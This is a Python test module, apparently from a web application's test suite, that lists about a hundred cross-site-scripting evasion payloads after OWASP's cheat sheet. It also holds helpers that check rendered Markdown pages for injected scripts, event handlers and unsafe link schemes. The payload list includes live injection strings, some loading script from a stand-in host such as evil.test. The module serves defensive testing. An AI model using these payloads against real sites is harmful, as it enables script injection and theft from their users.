"""Text that tries to become more than text, and what a page must look like when it has not.

After the kinds of trick in OWASP's filter evasion cheat sheet: tags and attributes, broken markup, encodings, URLs
that run, markup of scripts, styles and vector graphics, and what only Markdown makes dangerous.
"""

from collections import Counter
from collections.abc import Iterator
from urllib.parse import urlsplit

from chalicelib.core.markdown import ATTRIBUTES, CLASSES, TAGS
from tests.browsing import Element

VECTORS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.test/x.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/src=//evil.test/x.js></script>",
    "<script>alert(1)//",
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<script\x20type='module'>import('//evil.test')</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</h1><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '" autofocus onfocus=alert(1) x="',
    '" formaction="javascript:alert(1)',
    '" style="position:fixed;inset:0',
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=`javascript:alert(1)`>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<IMG SRC=# onmouseover=alert(1)>",
    "<IMG onmouseover=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>",
    "<IMG SRC=jav&#x09;ascript:alert(1)>",
    "<IMG SRC=jav&#x0A;ascript:alert(1)>",
    "<IMG DYNSRC=javascript:alert(1)>",
    "<IMG LOWSRC=javascript:alert(1)>",
    "<IMG SRC='vbscript:msgbox(1)'>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&lpar;1&rpar;</script>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><use href=data:image/svg+xml,x></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<BODY BACKGROUND=javascript:alert(1)>",
    "<BGSOUND SRC=javascript:alert(1);>",
    "<LINK REL=stylesheet HREF=javascript:alert(1);>",
    "<STYLE>@import'//evil.test/x.css';</STYLE>",
    "<DIV STYLE=background-image:url(javascript:alert(1))>",
    "<XSS STYLE=behavior:url(xss.htc);>",
    "<META HTTP-EQUIV=refresh CONTENT=0;url=javascript:alert(1)>",
    "<base href=javascript:alert(1)//>",
    "<IFRAME SRC=javascript:alert(1)></IFRAME>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<FRAMESET><FRAME SRC=javascript:alert(1)></FRAMESET>",
    "<TABLE BACKGROUND=javascript:alert(1)>",
    "<OBJECT DATA=javascript:alert(1)></OBJECT>",
    "<EMBED SRC=data:image/svg+xml;base64,PHN2Zz4=>",
    "<INPUT TYPE=IMAGE SRC=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a onmouseover=alert(document.cookie)>x</a>",
    "<a href=//evil.test target=_blank>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](<javascript:alert(1)>)",
    "[x](//evil.test)",
    "![x](javascript:alert(1))",
    '![x](https://evil.test/" onerror="alert(1))',
    '[x](https://evil.test "onmouseover=alert(1)")',
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)",
    "`<script>alert(1)</script>`",
    "{{ 7 * 7 }}{% raw %}",
    "${alert(1)}#{7*7}",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "javascript:/*--></title></style></textarea></script><svg onload=alert(1)>",
)
"""Each fits into one line, and none has characters that a line may not have."""

_LINKS = frozenset(
    {"href", "src", "action", "formaction", "srcdoc", "data", "poster", "xlink:href", "background"}
)
_OWN_TAGS = frozenset(
    {"html", "head", "meta", "title", "link", "script", "body", "header", "nav", "main", "footer", "section"}
    | {"article", "div", "span", "p", "h1", "h2", "h3", "ul", "ol", "li", "dl", "dt", "dd", "strong", "code"}
    | {"time", "a", "img", "form", "fieldset", "legend", "label", "input", "textarea", "select", "optgroup"}
    | {"option", "button", "details", "summary", "ins", "del", "template", "noscript"}
)


def harm_in(page: Element) -> list[str]:
    """What in a page could run, load or lead where no page of ours does; empty for one that is as it should be."""
    return [harm for element in page.walk() for harm in _harm_of(element)]


def harm_in_body(page: Element) -> list[str]:
    """What has got into the rendered text beyond what Markdown may make; raises where there is no such text."""
    bodies = page.all("div", class_="body")
    assert bodies, "the page shows no text"
    return [harm for body in bodies for element in body.walk() for harm in _harm_of_rendered(element)]


def skeleton(page: Element) -> list[tuple[str, tuple[str, ...]]]:
    """Tags and names of attributes outside the rendered text: what must not depend on what was typed."""
    if page.attributes.get("class") == "body":
        return []
    inside = [part for child in page.children for part in skeleton(child)]
    return [(page.tag, tuple(sorted(page.attributes))), *inside]


def shapes(page: Element) -> Counter[tuple[str, tuple[tuple[str, str], ...]]]:
    """How often each element is in a page, with its attributes and their values: what text alone never changes."""
    return Counter((element.tag, tuple(sorted(element.attributes.items()))) for element in page.walk())


def harm_beyond(frame: Element, page: Element) -> list[str]:
    """What Markdown has brought into a page beyond what it may make, or made vanish from its frame."""
    gone, more = shapes(frame) - shapes(page), shapes(page) - shapes(frame)
    return [
        *(f"<{tag}> is gone" for tag, _ in gone),
        *(harm for tag, attributes in more for harm in _harm_of_rendered(Element(tag, dict(attributes)))),
    ]


def _harm_of(element: Element) -> Iterator[str]:
    if element.tag not in _OWN_TAGS | TAGS:
        yield f"<{element.tag}>"
    if element.tag == "script" and not element.attributes.get("src", "").startswith("/static/"):
        yield "a script that is not ours"
    if element.tag == "script" and element.text.strip():
        yield "a script in the page"
    for name, value in element.attributes.items():
        if name.startswith("on") or name in {"style", "srcdoc"}:
            yield f"{element.tag} {name}={value}"
        if name in _LINKS and urlsplit(value.strip()).scheme not in {"", "http", "https", "mailto"}:
            yield f"{element.tag} {name}={value}"


def _harm_of_rendered(element: Element) -> Iterator[str]:
    if element.tag not in TAGS:
        yield f"<{element.tag}>"
    for name, value in element.attributes.items():
        allowed = ATTRIBUTES.get(element.tag, set()) | ({"rel"} if element.tag == "a" else set())
        classed = name == "class" and value in CLASSES.get(element.tag, set())
        if name not in allowed and not classed:
            yield f"{element.tag} {name}={value}"
        if name == "href" and urlsplit(value).scheme not in {"http", "https", "mailto"}:
            yield f"{element.tag} {name}={value}"
